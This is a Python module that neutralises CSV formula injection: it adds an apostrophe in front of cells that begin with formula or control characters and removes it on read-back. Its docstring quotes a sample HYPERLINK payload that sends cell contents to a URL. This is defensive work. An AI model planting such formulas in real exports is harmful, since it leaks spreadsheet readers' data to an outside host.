"""Cells a spreadsheet will show as text, never run as a formula.

Every CSV the app writes is opened by someone in Excel or LibreOffice, and both treat a
cell that begins with `=`, `+`, `-` or `@` as a formula: a note or a case reference such
as `=HYPERLINK("http://…/?x="&A1,"Open")` would run on the reader's machine. As OWASP
advises ("CSV Injection"), such a cell is written with a leading apostrophe, which the
spreadsheet shows as text. A cell that begins with a tab or a carriage return is treated
the same way, and so is one whose dangerous character follows leading white space, since
some spreadsheets trim that space before they decide.

Reading back a CSV we wrote removes exactly the one apostrophe we added, so any value
round-trips: a value that already begins with apostrophes in front of a dangerous
character gets one more, and loses only that one when read (`restored(neutralised(v)) == v`
for every string). The rows themselves are written by Python's `csv` module.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")
MARK = "'"


def needs_mark(value: str) -> bool:
    """True when a spreadsheet could read `value` as a formula (apostrophes we or the
    author put in front are looked through, which keeps the marking reversible)."""
    rest = value.lstrip(MARK)
    return rest.startswith(CONTROL_STARTS) or rest.lstrip().startswith(FORMULA_STARTS)


def neutralised(value: str) -> str:
    """The cell as written: `value`, with one apostrophe in front when it could run."""
    return MARK + value if needs_mark(value) else value


def restored(cell: str) -> str:
    """The value of a cell we wrote: the one apostrophe `neutralised` added, removed."""
    return cell[1:] if cell.startswith(MARK) and needs_mark(cell) else cell


def csv_text(header: Iterable[str], rows: Iterable[Iterable[object]]) -> str:
    """A whole table as CSV text (Excel's dialect, CRLF line ends), every cell neutralised.

    Cells are turned into text first (`None` as an empty cell), so a number never slips
    past the check; the header is checked too, because it is a row like any other.
    """
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralised(_text(c)) for c in header])
    for row in rows:
        writer.writerow([neutralised(_text(c)) for c in row])
    return out.getvalue()


def _text(cell: object) -> str:
    return "" if cell is None else str(cell)
